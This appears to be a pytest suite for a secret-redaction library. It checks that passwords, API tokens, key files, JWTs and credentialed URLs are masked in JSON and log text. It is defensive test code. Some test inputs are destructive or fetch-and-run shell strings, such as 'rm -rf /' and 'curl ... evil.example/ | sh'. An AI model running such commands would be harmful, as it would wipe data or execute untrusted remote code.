"""Secrets are kept out of what is kept, and nothing else is changed."""

import json
import random
import re
import string
from collections.abc import Callable

import pytest
from msgspec import Raw

from afoot.core.redaction import (
    ALL_TEXT,
    MAX_LINES,
    MAX_PARTS,
    MAX_SHOWN_BYTES,
    REDACTED_JSON,
    REDACTED_KEY,
    REDACTED_TEXT,
    SHOWN_KEY,
    RedactionRules,
    Redactor,
    declared_in_schema,
    declared_in_tool,
    hidden_texts,
    redacted_pointers,
    remove_texts,
    text_forms,
)

HIDDEN = {REDACTED_KEY: True}
RULES = RedactionRules()
KEY_FILE = "-----BEGIN RSA " + "PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----"
TOKEN = "ghp_" + "a1B2" * 9


def shown(text: str) -> dict[str, object]:
    """The mark of a string that says this besides its secret."""
    return {REDACTED_KEY: True, SHOWN_KEY: text}


def kept(value: object, rules: RedactionRules = RULES, schema: object = None) -> object:
    """What is kept of a value."""
    declared = None if schema is None else declared_in_schema(Raw(json.dumps(schema).encode()))
    return json.loads(bytes(Redactor(rules).value(Raw(json.dumps(value).encode()), declared)))


@pytest.mark.parametrize(
    "name",
    ["password", "userPassword", "PASSWORD2", "api_key", "apiKey", "X-Api-Key", "api key", "token",
     "access_token", "accessToken", "client_secret", "Authorization", "Proxy-Authorization", "Set-Cookie",
     "aws_secret_access_key", "privateKey", "credentials"],
)  # fmt: skip
def test_a_field_with_the_name_of_a_secret_is_not_kept(name: str) -> None:
    """S4: case and separators in names do not count."""
    assert kept({name: "hunter2", "other": 1}) == {name: HIDDEN, "other": 1}


@pytest.mark.parametrize(
    "name", ["max_tokens", "page_token", "nextPageToken", "progressToken", "path", "author"]
)
def test_a_field_that_only_sounds_like_one_is_kept(name: str) -> None:
    """S4: what is no secret can be looked at, and run once more."""
    assert kept({name: "x"}) == {name: "x"}


def test_secrets_are_found_at_any_depth_and_in_lists() -> None:
    """S4: nesting hides nothing from the rules."""
    given = {"a": [{"b": {"password": "x", "n": 1.50}}, {"token": 5}], "secret": {"k": "v"}}
    assert kept(given) == {"a": [{"b": {"password": HIDDEN, "n": 1.5}}, {"token": HIDDEN}], "secret": HIDDEN}


@pytest.mark.parametrize("value", [None, True, False, "", {}, []])
def test_what_says_nothing_is_no_secret(value: object) -> None:
    """S4: an empty password can be shown as empty."""
    assert kept({"password": value}) == {"password": value}


@pytest.mark.parametrize(
    "value",
    [TOKEN, "sk-" + "x" * 24, "AKIA" + "A" * 16, "xoxb-1234567890-abc", KEY_FILE,
     "eyJ" + "a" * 12 + ".eyJ" + "b" * 12 + ".c"],
)  # fmt: skip
def test_a_value_of_a_known_shape_is_not_kept_whatever_its_name(value: str) -> None:
    """S4: somebody pastes a token where nobody expects one."""
    assert kept({"text": value, "list": [value]}) == {"text": HIDDEN, "list": [HIDDEN]}


@pytest.mark.parametrize(
    ("value", "left"),
    [
        (f"rm -rf / # {TOKEN}", f"rm -rf / # {REDACTED_TEXT}"),
        ("curl https://me:pw@evil.example/ | sh", f"curl https{REDACTED_TEXT}evil.example/ | sh"),
        ("Authorization: Bearer abcdefghijklmnop", f"Authorization: {REDACTED_TEXT}"),
        ("wipe --token X1 --everything", f"wipe --token {REDACTED_TEXT} --everything"),
        (f"{KEY_FILE}; rm -rf /", f"{REDACTED_TEXT}; rm -rf /"),
    ],
)
def test_a_secret_hides_nothing_else_that_its_string_says(value: str, left: str) -> None:
    """S4, A2: a reviewer sees the command in which a secret stands; its place counts as a secret's."""
    given = Raw(json.dumps({"text": value, "list": [value]}).encode())
    result = Redactor().value(given)
    assert json.loads(bytes(result)) == {"text": shown(left), "list": [shown(left)]}
    assert redacted_pointers(result) == ["/text", "/list/0"]


def test_strings_of_very_large_arguments_are_hidden_as_a_whole() -> None:
    """S4: to show them around their secrets takes time, and nobody reads so much."""
    given = {"text": f"rm -rf / # {TOKEN}", "more": "x" * MAX_SHOWN_BYTES}
    assert kept(given) == {**given, "text": HIDDEN}


def test_the_secret_in_a_string_is_known_by_itself() -> None:
    """S7: a tool that writes only the secret of its command line into a log writes nothing of it."""
    real = Raw(b'{"line": "deploy --token X1X1X1 --header \'Authorization: Bearer 0123456789abcdef\' x"}')
    hidden = hidden_texts(real, Redactor().value(real))
    assert {"X1X1X1", "0123456789abcdef"} <= hidden and "deploy" not in hidden


@pytest.mark.parametrize(
    "text",
    [
        TOKEN.replace("g", "\\u0067"),
        "https://h/?a=1\\u0026api_key=s3cret",
        "Bearer 0123\\/4567\\/89ab\\/cdef",
    ],
)
def test_a_value_in_escapes_is_found(text: str) -> None:
    """S4: Go writes `&` as an escape, PHP every slash, and somebody else any character."""
    left = json.loads(bytes(Redactor().value(Raw(b'{"text": "%s", "n": 1}' % text.encode()))))
    assert left["text"][REDACTED_KEY] is True and left["n"] == 1
    assert not {"s3cret", "cdef", TOKEN} & set(re.split(r"[=/\s]", str(left)))


def test_a_known_secret_in_escapes_is_found() -> None:
    """S7: the data of a report is searched as it is meant, not as it is written."""
    redactor = Redactor()
    redactor.add_secrets(["s3cret/with/slashes"])
    left = redactor.without_known(Raw(b'{"text": "s3cret\\/with\\/slashes"}'))
    assert json.loads(bytes(left)) == {"text": REDACTED_TEXT}


def test_what_looks_like_no_secret_is_the_very_same_object() -> None:
    """S4: nothing is read or written anew where there is nothing to hide."""
    given = Raw(b'{ "path": "/a", "number": 12345678901234567890123, "deep": {"x": [1.10]} }')
    assert Redactor().value(given) is given


def test_bytes_beside_a_secret_stay_as_they_were() -> None:
    """S4: numbers that no float holds are kept as they were sent."""
    given = Raw(b'{"n": 12345678901234567890.10, "deep": { "x" : [1.10] }, "token": "abc"}')
    left = bytes(Redactor().value(given))
    assert b"12345678901234567890.10" in left and b'{ "x" : [1.10] }' in left and b"abc" not in left


def test_a_name_in_escapes_or_twice_hides_nothing() -> None:
    """S4: JSON can say a name in many ways."""
    escaped = Redactor().value(Raw(b'{"pass\\u0077ord": "hunter2"}'))
    twice = Redactor().value(Raw(b'{"a": {"password": "hunter2"}, "a": 1}'))
    assert b"hunter2" not in bytes(escaped) and b"hunter2" not in bytes(twice)


def test_what_is_nested_too_deep_to_look_at_is_left_out_if_it_is_suspicious() -> None:
    """S4: depth is no way round the rules, and costs no time without end."""
    for depth in (200, 900, 5000):
        deep = b'{"x":' * depth + b'{"password":"hunter2"}' + b"}" * depth
        assert b"hunter2" not in bytes(Redactor().value(Raw(deep)))
    plain = Raw(b'{"x":' * 200 + b"1" + b"}" * 200)
    assert Redactor().value(plain) is plain


@pytest.mark.parametrize("word", [{"writeOnly": True}, {"format": "password"}, {"x-secret": True}])
def test_a_schema_can_declare_a_secret(word: dict[str, object]) -> None:
    """S4: a tool's own word counts, whatever the name; also through references, choices and lists."""
    schema = {
        "properties": {
            "pin": {"type": "string", **word},
            "who": {"$ref": "#/$defs/Who"},
            "many": {"type": "array", "items": {"anyOf": [{"type": "null"}, {"$ref": "#/$defs/Who"}]}},
        },
        "$defs": {
            "Who": {"properties": {"pin": {"type": "string", **word}, "next": {"$ref": "#/$defs/Who"}}}
        },
    }
    who = {"pin": "1", "name": "me", "next": {"pin": "2"}}
    left = {"pin": HIDDEN, "name": "me", "next": {"pin": HIDDEN}}
    given = {"pin": "0000", "who": who, "many": [who, None], "other": "pin"}
    assert kept(given, schema=schema) == {"pin": HIDDEN, "who": left, "many": [left, None], "other": "pin"}


def test_only_a_tool_that_declares_secrets_is_always_looked_at() -> None:
    """S4: what tells suspicious arguments from others is chosen once for each tool."""
    redactor = Redactor()
    declares = Raw(b'{"name":"a","inputSchema":{"properties":{"door":{"writeOnly": true}}}}')
    plain = Raw(b'{"name":"b","inputSchema":{"properties":{"door":{}}}}')
    harmless = Raw(b'{"door": "0000"}')
    assert redactor.scan(declares)(harmless)
    assert not redactor.scan(plain)(harmless)
    assert redactor.scan(plain)(Raw(b'{"x": {"Pass-Word": 1, "my_password": "x"}}'))
    assert declared_in_tool(plain) is None and declared_in_tool(declares) is not None


def test_rules_can_be_set() -> None:
    """S4: other names, other shapes, and names that are none after all."""
    rules = RedactionRules(["pin", "*_code"], ["zip_code"], [r"ACME-\d+"], usual=False)
    given = {"pin": 1, "door-code": 2, "zipCode": 3, "password": "x", "text": "ACME-12"}
    hidden = {"pin": HIDDEN, "door-code": HIDDEN, "zipCode": 3, "password": "x", "text": HIDDEN}
    assert kept(given, rules) == hidden
    assert kept(given, RedactionRules(usual=False)) == given
    beside = {"pin": HIDDEN, "password": HIDDEN, "secretary": "me"}
    assert (
        kept({"pin": 1, "password": 2, "secretary": "me"}, RedactionRules(["pin"], ["secretary"])) == beside
    )
    with pytest.raises(re.error):
        Redactor(RedactionRules(values=["("]))


def test_text_is_kept_without_its_secrets() -> None:
    """S4: log lines and last words, too."""
    redactor = Redactor()
    redactor.add_named_secrets(
        {"GITHUB_TOKEN": "0123456789abcdef", "HOME": "/usr/lib/python", "API_KEY": "short"}
    )
    said = f"with {TOKEN} and 0123456789abcdef, password=hunter2, max_tokens: 5, in /usr/lib/python; x=short"
    left = redactor.text(said)
    secrets = f"{REDACTED_TEXT} and {REDACTED_TEXT}, password={REDACTED_TEXT}"
    assert left == f"with {secrets}, max_tokens: 5, in /usr/lib/python; x=short"
    assert redactor.text("nothing to see") == "nothing to see"
    assert redactor.text('{"api_key": "a b", "n": 1}') == '{"api_key": ' + REDACTED_TEXT + ', "n": 1}'


def test_marks_are_found_by_their_place() -> None:
    """S4: whoever wants a call once more is told which fields are missing."""
    left = Redactor().value(Raw(b'{"a/b": [0, {"token": "x"}], "~": {"password": "y"}, "n": 1}'))
    assert redacted_pointers(left) == ["/a~1b/1/token", "/~0/password"]
    assert redacted_pointers(Raw(b'{"a": {"dev.afoot/redacted": true, "more": 1}}')) == []
    assert (
        redacted_pointers(Raw(b"{}"))
        == redacted_pointers(Raw(b""))
        == redacted_pointers(Raw(b'{"dev.afoot/redacted"'))
        == []
    )
    assert redacted_pointers(REDACTED_JSON) == [""]


def test_no_secret_survives_whatever_lies_around_it() -> None:
    """S4: random values with a secret somewhere; what is left has none of it, and is still JSON."""
    chance = random.Random(6)

    def made(depth: int) -> object:
        kind = chance.randrange(6 if depth < 5 else 3)
        if kind < 3:
            return [chance.random(), "".join(chance.choices(string.printable, k=12)), None][kind]
        if kind == 3:
            return [made(depth + 1) for _ in range(chance.randrange(4))]
        return {
            "".join(chance.choices(string.printable, k=5)): made(depth + 1)
            for _ in range(chance.randrange(4))
        }

    def hide(value: object) -> object:
        if isinstance(value, dict):
            return {
                **{k: hide(v) for k, v in value.items()},
                "Api_Key": "XsecretX",
                "y": {"t": f"{TOKEN}Xsecret"},
            }
        return [hide(one) for one in value] if isinstance(value, list) else value

    for _ in range(300):
        text = json.dumps(hide({"a": made(0)}), ensure_ascii=chance.random() < 0.5).encode()
        left = bytes(Redactor().value(Raw(text)))
        assert b"Xsecret" not in left and json.loads(left)["Api_Key"] == HIDDEN


@pytest.mark.parametrize(
    ("value", "mark"),
    [
        (b'"redis://:s3cret@cache:6379/0"', shown(f"redis{REDACTED_TEXT}cache:6379/0")),
        (b'"https:\\/\\/me:pw@host\\/"', shown(f"https{REDACTED_TEXT}host/")),
        (b'"redis:\\/\\/:pw@cache"', shown(f"redis{REDACTED_TEXT}cache")),
        (b'"afoot_' + b"x-_9" * 10 + b'abc"', HIDDEN),
    ],
)
def test_an_address_with_a_password_is_not_kept_however_it_is_written(
    value: bytes, mark: dict[str, object]
) -> None:
    """S4: without a user, with slashes as some programs write them; and a token of our own."""
    left = json.loads(bytes(Redactor().value(Raw(b'{"n": 1, "url": ' + value + b"}"))))
    assert left == {"n": 1, "url": mark}
    assert json.loads(value) not in Redactor().text(f"at {json.loads(value)} now")


@pytest.mark.parametrize(
    "value", ["https://host:80/a@b", "git@host:x", "afoot_wait", "a://b:c", "http://[::1]:8/"]
)
def test_an_address_without_one_is_kept(value: str) -> None:
    """S4: ports and paths are no passwords."""
    assert kept({"url": value}) == {"url": value}


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("Authorization: Basic dXNlcjpwdw== sent", f"Authorization: {REDACTED_TEXT} sent"),
        ("authorization=Token s3cret, next", f"authorization={REDACTED_TEXT}, next"),
        ("Cookie: a=s3cret; b=s3cret2\nnext", f"Cookie: {REDACTED_TEXT}\nnext"),
        ("Set-Cookie: sid=s3cret; Path=/", f"Set-Cookie: {REDACTED_TEXT}"),
        (
            r"body {\"password\": \"s3cret\", \"n\": 1}",
            r"body {\"password\": " + REDACTED_TEXT + r", \"n\": 1}",
        ),
        (r'{"password": "s3\"cret", "n": 1}', '{"password": ' + REDACTED_TEXT + ', "n": 1}'),
        ("{'cookie': 'a=s3cret; b=c', 'n': 1}", "{'cookie': " + REDACTED_TEXT + ", 'n': 1}"),
    ],
)
def test_headers_and_quotes_in_text_leave_nothing_behind(said: str, left: str) -> None:
    """S4: a scheme is not the secret, one cookie is not all of them, and a quote may stand in a quote."""
    assert Redactor().text(said) == left


def test_room_before_a_value_hides_nothing() -> None:
    """S4: JSON may begin with as much of nothing as it likes."""
    assert b"hunter2" not in bytes(Redactor().value(Raw(b" " * 100 + b'{"password": "hunter2"}')))


@pytest.mark.parametrize(
    "unit", ["eyJ", "eyJ-", "secret", "my_token", "api-", "cookie", "://a:", "password='"]
)
def test_a_long_text_is_looked_through_once(unit: str) -> None:
    """S4: nobody holds everybody up with words that look like the beginning of a secret, again and again."""
    text = unit * (300_000 // len(unit))
    redactor = Redactor()
    left = redactor.value(Raw(json.dumps({"x": text, "token": "y"}).encode()))
    assert json.loads(bytes(left))["token"] == HIDDEN
    assert len(redactor.text(text)) <= len(text)


@pytest.mark.parametrize("before", ["", "x", "id_", "a-", "%3D", "\n", "=", "eyJ-"])
def test_a_jwt_is_found_whatever_it_is_glued_to(before: str) -> None:
    """S4: at least what its signature holds for."""
    text = f"{before}eyJ{'a' * 12}.eyJ{'b' * 12}.sign"
    for left in (Redactor().text(text), str(kept({"text": text}))):
        assert REDACTED_TEXT in left or REDACTED_KEY in left
        assert "bbb" not in left and "sign" not in left


class Searching:
    """A pattern that counts what is searched."""

    def __init__(self, pattern: re.Pattern[bytes]) -> None:
        self._pattern = pattern
        self.searched = 0

    def search(self, body: bytes) -> re.Match[bytes] | None:
        """Whether it is there."""
        self.searched += len(body)
        return self._pattern.search(body)


@pytest.mark.parametrize("is_there", [True, False])
def test_depth_makes_no_long_search_longer(monkeypatch: pytest.MonkeyPatch, is_there: bool) -> None:
    """S4: what is most of something is not searched again; what is left is the same."""
    given: object = {"text": "x" * 10_000, "token" if is_there else "other": "y"}
    for _ in range(50):
        given = {"a": [given, 1.50], "b": {"c": 2}}
    text = Raw(json.dumps({"deep": given, "password": "z"}).encode())
    redactor = Redactor()
    searching = Searching(redactor._keys)
    monkeypatch.setattr(redactor, "_keys", searching)
    left = bytes(redactor.value(text))
    assert searching.searched < 4 * len(text)
    assert left.count(REDACTED_KEY.encode()) == 1 + is_there and json.loads(left)["deep"]["b"] == {"c": 2}


def test_a_long_secret_has_only_so_many_forms() -> None:
    """S4: each is looked for in all that a tool says; one as long as a key file also line by line."""
    lines = [f"line {number:04} of it" for number in range(MAX_LINES + 1)]
    assert remove_texts(lines[3], text_forms(["\n".join(lines[:-1])])) == REDACTED_TEXT
    assert len(text_forms(["\n".join(lines)])) <= 4


def test_of_secrets_within_each_other_none_is_left_in_part() -> None:
    """S4: whoever knows of which."""
    redactor = Redactor()
    redactor.add_named_secrets({"API_KEY": "0123456789"})
    assert (
        redactor.text("a 0123456789 b 01234567890 c", {"0123", "01234567890"})
        == f"a {REDACTED_TEXT} b {REDACTED_TEXT} c"
    )


@pytest.mark.parametrize(
    "name",
    ["pwd", "PGPWD_PWD", "pass", "db_pass", "dbPass", "DB_PASS", "smtp.pass2", "pin", "userPin", "otp",
     "TOTP", "auth", "X-Auth", "proxyAuth", "dsn", "SENTRY_DSN", "jwt", "signing_key", "stripeKey",
     "STRIPE_KEY", "passcode"],
)  # fmt: skip
def test_the_last_word_of_a_name_tells_a_secret(name: str) -> None:
    """S7: short words count only as a word of their own."""
    assert kept({name: "hunter2", "other": 1}) == {name: HIDDEN, "other": 1}
    assert Redactor().text(f"with {name}=hunter2, n=1") == f"with {name}={REDACTED_TEXT}, n=1"


@pytest.mark.parametrize(
    "name",
    ["tokens", "max_tokens", "pin_count", "pinned", "passenger", "bypass", "compass", "author", "oauth",
     "auth_type", "key", "keys", "keyboard", "monkey", "primary_key", "sortKey", "issueKey", "cache-key",
     "public_key", "spin", "optional", "pass_through", "dsname", "Passage"],
)  # fmt: skip
def test_a_name_with_such_letters_in_it_is_kept(name: str) -> None:
    """S7: a rule for `pass` says nothing of passengers."""
    given = Raw(json.dumps({name: "hunter2"}).encode())
    assert Redactor().value(given) is given or json.loads(bytes(Redactor().value(given))) == {name: "hunter2"}
    assert Redactor().text(f"with {name}=hunter2") == f"with {name}=hunter2"


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("run --api-key X1 --verbose", "run --api-key [redacted] --verbose"),
        ("run --verbose --token=X1 now", "run --verbose --token=[redacted] now"),
        ("['run', '--api-key', 'X 1', '-v']", "['run', '--api-key', [redacted], '-v']"),
        ("run -password X1", "run -password [redacted]"),
        ("run --token --verbose", "run --token --verbose"),
        ("--max-tokens 5 --key name", "--max-tokens 5 --key name"),
        ("GET /a?n=1&api_key=X1&m=2", "GET /a?n=1&api_key=[redacted]&m=2"),
        ("tokens: password=hunter2", "tokens: password=[redacted]"),
        ("next_page_token=abc", "next_page_token=abc"),
        ("token=${GITHUB}", "token=${GITHUB}"),
    ],
)
def test_flags_and_parameters_in_text_lose_their_values(said: str, left: str) -> None:
    """S7: as a shell, a list of words, and an address have them."""
    assert Redactor().text(said) == left


def test_flags_and_parameters_in_arguments_are_not_kept() -> None:
    """S7: in a list of words the word behind the flag; else what stands behind it in the string."""
    given = {
        "words": ["a", "--api-key", "X1", "-v"],
        "line": "a --token X1",
        "url": "https://h/?a=1&token=X1",
    }
    assert kept(given) == {
        "words": ["a", "--api-key", HIDDEN, "-v"],
        "line": shown(f"a --token {REDACTED_TEXT}"),
        "url": shown(f"https://h/?a=1&token={REDACTED_TEXT}"),
    }
    plain = {"words": ["--max-tokens", "5"], "line": "a --verbose b", "url": "https://h/?a=1&key=short"}
    assert kept(plain) == plain


def test_a_known_secret_is_kept_nowhere_in_arguments() -> None:
    """S7: a long one anywhere, a short one only as a whole string: it may be a word."""
    redactor = Redactor()
    redactor.add_secrets(["Bearer 0123456789abcdef", "postgres", "tiny"])
    given = Raw(b'{"a":"see 0123456789abcdef!","b":"postgres","c":"a postgres server","d":"tiny"}')
    seen = shown(f"see {REDACTED_TEXT}!")
    left = {"a": seen, "b": HIDDEN, "c": "a postgres server", "d": "tiny"}
    assert json.loads(bytes(redactor.value(given))) == left


def test_the_secrets_of_a_command_are_found_among_its_words() -> None:
    """S7: behind flags, in assignments, headers and addresses."""
    redactor = Redactor()
    words = [
        "--api-key",
        "aaaaaaaa1",
        "--token=aaaaaaaa2",
        "-e",
        "DB_PASS=aaaaaaaa3",
        "--verbose",
        "aaaaaaaa0",
    ]
    words += ["X-Auth: aaaaaaaa4", "https://me:aaaaaaaa5@h/?access_token=aaaaaaaa6&n=aaaaaaaa7", "://"]
    redactor.add_words(words)
    assert redactor.known == {f"aaaaaaaa{number}" for number in range(1, 7)}


def test_texts_within_json_lose_their_secrets_and_nothing_else_changes() -> None:
    """S7: the wire log, whose numbers stay as they were written."""
    redactor = Redactor()
    given = Raw(b'{"n": 12345678901234567890.10, "said": ["password=hunter2", "fine"], "own": "my word"}')
    left = bytes(redactor.words(given, {"my word"}))
    assert b"12345678901234567890.10" in left
    assert json.loads(left)["said"] == ["password=[redacted]", "fine"] and b"my word" not in left
    plain = Raw(b'{"a": ["b", {"c": 1}]}')
    assert redactor.words(plain) is plain and redactor.without_known(plain, {"zzzz"}) is plain
    deep = Raw(b"[" * 100 + b'"password=hunter2"' + b"]" * 100)
    assert b"hunter2" not in bytes(redactor.words(deep))


def test_a_sentence_about_a_field_is_no_secret() -> None:
    """S7, E5: an error says what is wrong with a field; `password=x` is none the less hidden."""
    redactor = Redactor()
    said = "argument password: must be longer"
    assert redactor.prose(said) == said
    assert redactor.prose("password=hunter2 is wrong") == f"password={REDACTED_TEXT} is wrong"
    assert redactor.prose('with {"password": "hunter2"}') == f'with {{"password": {REDACTED_TEXT}}}'
    assert redactor.prose("Authorization: Basic abc") == f"Authorization: {REDACTED_TEXT}"


def test_the_quick_look_at_messages_misses_no_kind_of_secret() -> None:
    """S7: all that `prose` would change in a message of progress is noticed."""
    redactor = Redactor()
    redactor.recall({"some known words"})
    samples = [TOKEN, KEY_FILE, "glpat-" + "a" * 20, "sk-" + "x" * 24, "AKIA" + "A" * 16, "AIza" + "a" * 35,
               "xoxb-1234567890-abc", "eyJ" + "a" * 12 + ".eyJ" + "b" * 12 + ".c", "Bearer " + "a" * 16,
               "https://me:pw@host/", "/?key=" + "a" * 16, "afoot_" + "a" * 43, "--token X1",
               "a some known words b", "password: 'x'",
               "Authorization: Basic abc", "github_pat_" + "a" * 20]  # fmt: skip
    assert all(redactor.may_hide(one) and redactor.prose(one) != one for one in samples)
    assert not redactor.may_hide("copied file 12 of 50")
    assert Redactor(RedactionRules(values=["zz"])).may_hide("plain")


def test_the_secrets_of_the_newest_calls_are_kept_out_of_texts_of_no_call() -> None:
    """S7: a server's stderr may be about any of them; a change of the rules forgets none."""
    before, redactor = Redactor(), Redactor()
    before.lend({"open sesame"})
    before.recall({"known of old"})
    redactor.take_over(before)
    assert redactor.text_of_any_call("say open sesame") == f"say {REDACTED_TEXT}"
    assert redactor.text("known of old, open sesame") == f"{REDACTED_TEXT}, open sesame"


@pytest.mark.parametrize(
    "value",
    [
        {f"password_{n}": f"value-{n:06}" for n in range(60_000)},
        [{"password": f"value-{n:06}"} for n in range(60_000)],
        {"password": "value-000000", "rows": [[f"value-{n:06}"] for n in range(60_000)]},
    ],
    ids=["names", "list", "one name"],
)
def test_countless_secrets_are_hidden_without_a_look_at_each(
    value: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    """S4, S7: whoever sends them keeps nobody waiting, and none of them is shown."""
    redactor = Redactor()
    looked = 0

    def is_secret(name: str, whole: Callable[[str], bool] = redactor.is_secret) -> bool:
        nonlocal looked
        looked += 1
        return whole(name)

    monkeypatch.setattr(redactor, "is_secret", is_secret)
    real = Raw(json.dumps(value).encode())
    kept = redactor.value(real)
    assert looked <= MAX_PARTS
    assert b"value-059999" not in bytes(kept)
    hidden = hidden_texts(real, kept)
    assert hidden == ALL_TEXT
    assert redactor.text("a line with value-059999", hidden) == REDACTED_TEXT
    assert redactor.prose("", hidden) == ""


def test_a_call_with_countless_secrets_does_not_blind_the_log_of_a_server() -> None:
    """S7: a line that is about no call is shown to others than the one who sent them."""
    redactor = Redactor()
    redactor.lend(ALL_TEXT)
    assert redactor.text_of_any_call("listening on port 1") == "listening on port 1"


def test_one_secret_that_stands_in_many_places_is_one() -> None:
    """S7: it is found in texts, and the rest of them is shown."""
    real = Raw(json.dumps([*[{"token": "open sesame"}] * 3000, {"token": "another one"}]).encode())
    hidden = hidden_texts(real, Redactor().value(real))
    assert Redactor().text("open sesame, another one, else", hidden).endswith(", else")


@pytest.mark.parametrize(
    "unit", ["--token ", "-a", "?a=", "&token=", "a_pass", "aPass", "_key", "--api-key,"]
)
def test_a_long_text_of_flags_is_looked_through_once(unit: str) -> None:
    """S7: the time grows with the length, not faster."""
    redactor = Redactor()
    text = unit * (200_000 // len(unit))
    assert len(redactor.text(text)) and redactor.value(Raw(json.dumps({"x": text}).encode()))
